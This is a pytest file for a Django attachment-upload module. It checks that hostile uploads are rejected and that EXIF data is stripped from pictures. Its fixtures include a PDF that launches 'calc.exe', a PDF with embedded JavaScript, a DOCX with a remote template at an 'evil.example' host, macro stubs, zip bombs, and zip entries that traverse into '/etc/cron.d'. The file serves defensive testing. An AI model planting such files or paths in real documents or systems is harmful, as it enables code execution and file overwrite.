"""What could run, hide, lead out or unpack without end is refused."""

import io
import zipfile

import pytest
from a_document import (
    a_compound,
    a_docx,
    a_picture,
    a_zip,
    an_xlsx,
    exif,
    with_part,
)
from pypdf import PdfReader, PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject
from some_papers import a_pdf, a_word_file, left_behind, refused

from qingfeng.documents import packages
from qingfeng.documents.attachments import keep, opened

pytestmark = pytest.mark.django_db


def an_active_pdf():
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(a_pdf())))
    action = DictionaryObject(
        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/J#53"): TextStringObject("app.alert(1)")}
    )
    names = ArrayObject([TextStringObject("a"), writer._add_object(action)])
    writer.root_object[NameObject("/Names")] = DictionaryObject(
        {NameObject("/JavaScript"): DictionaryObject({NameObject("/Names"): names})}
    )
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def a_launching_pdf():
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(a_pdf())))
    action = DictionaryObject(
        {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("calc.exe")}
    )
    writer.root_object[NameObject("/OpenAction")] = action
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def a_locked_pdf(password):
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(a_pdf())))
    writer.encrypt(user_password=password, owner_password="owner", algorithm="RC4-128")  # noqa: S106 - of a test file
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def a_remote_template():
    rels = (
        '<Relationships><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'
        "</Relationships>"
    )
    return with_part(a_docx("甲"), "word/_rels/settings.xml.rels", rels)


HOSTILE = {
    "宏.docx": (lambda: with_part(a_docx("甲"), "word/vbaProject.bin", b"x"), "macros"),
    "宏.xlsx": (lambda: with_part(an_xlsx(["甲"]), "xl/macrosheets/sheet1.xml", b"<x/>"), "macros"),
    "宏.doc": (lambda: a_word_file(streams={"Macros": b"x"}), "macros"),
    "宏.xls": (lambda: a_compound({"Workbook": b"x", "_VBA_PROJECT_CUR": b"x"}), "macros"),
    "远程.docx": (a_remote_template, "outside"),
    "脚本.pdf": (an_active_pdf, "active"),
    "启动.pdf": (a_launching_pdf, "active"),
    "锁.pdf": (lambda: a_locked_pdf("secret"), "locked"),
    "锁.doc": (lambda: a_word_file(locked=True), "locked"),
    "锁.xls": (lambda: a_compound({"Workbook": b"\x09\x08\x02\x00ab\x2f\x00\x02\x00ab"}), "locked"),
    "锁.xlsx": (lambda: a_compound({"EncryptedPackage": b"x", "EncryptionInfo": b"x"}), "locked"),
    "实体.docx": (
        lambda: with_part(a_docx("甲"), "word/document.xml", '<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'),
        "damaged",
    ),
    "出走.zip": (lambda: a_zip({"../../etc/cron.d/x.txt": "x"}), "bad_names"),
    "绝对.zip": (lambda: a_zip({"/etc/x.txt": "x"}), "bad_names"),
    "反斜.zip": (lambda: a_zip({"..\\x.txt": "x"}), "bad_names"),
    "程序.zip": (lambda: a_zip({"a.txt": b"MZ\x90\x00"}), "program"),
    "网页.zip": (lambda: a_zip({"a.html": "<html>"}), "markup"),
    "套娃.zip": (lambda: a_zip({"b.zip": a_zip({"a.txt": "x"})}), "archive_inside"),
    "空.zip": (lambda: a_zip({}) or b"", "wrong_type"),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_what_could_run_hide_or_lead_out_is_refused(name, attachments_folder):
    make, code = HOSTILE[name]

    assert refused(make(), name).code == code
    assert left_behind(attachments_folder) == []


def test_a_pdf_that_anybody_may_open_is_taken_though_it_is_encrypted():
    assert keep(a_locked_pdf(""), "通知.pdf").text_searched


def test_a_zip_bomb_is_refused_by_what_it_claims():
    assert refused(a_zip({"bomb.txt": b"0" * (packages.LARGE + 1)}), "炸弹.zip").code == "too_large_inside"
    assert (
        refused(a_zip({f"{n}.txt": "" for n in range(packages.MOST_MEMBERS + 1)}), "多.zip").code
        == "too_large_inside"
    )


def test_a_bomb_that_lies_about_its_size_is_stopped_while_it_unpacks(monkeypatch):
    monkeypatch.setattr(packages, "LARGEST_PART", 1000)
    sheet = b"<x>" + b"0" * 5000 + b"</x>"

    assert (
        refused(with_part(a_docx("甲"), "word/document.xml", sheet), "炸弹.docx").code == "too_large_inside"
    )


def test_a_locked_archive_is_refused():
    data = bytearray(a_zip({"a.txt": "x"}))
    data[6] |= 1
    data[data.index(b"PK\x01\x02") + 8] |= 1

    assert refused(bytes(data), "锁.zip").code == "locked"


def test_an_archive_is_packed_anew_without_what_its_pictures_told():
    data = a_zip({"甲/照片.jpg": a_picture("JPEG", exif=exif()), "说明.txt": "说明"})

    kept = keep(data, "材料.zip")
    with opened(kept) as held, zipfile.ZipFile(io.BytesIO(held.read())) as archive:
        assert sorted(archive.namelist()) == ["甲/照片.jpg", "说明.txt"]
        assert b"PHONEMAKER" not in archive.read("甲/照片.jpg")
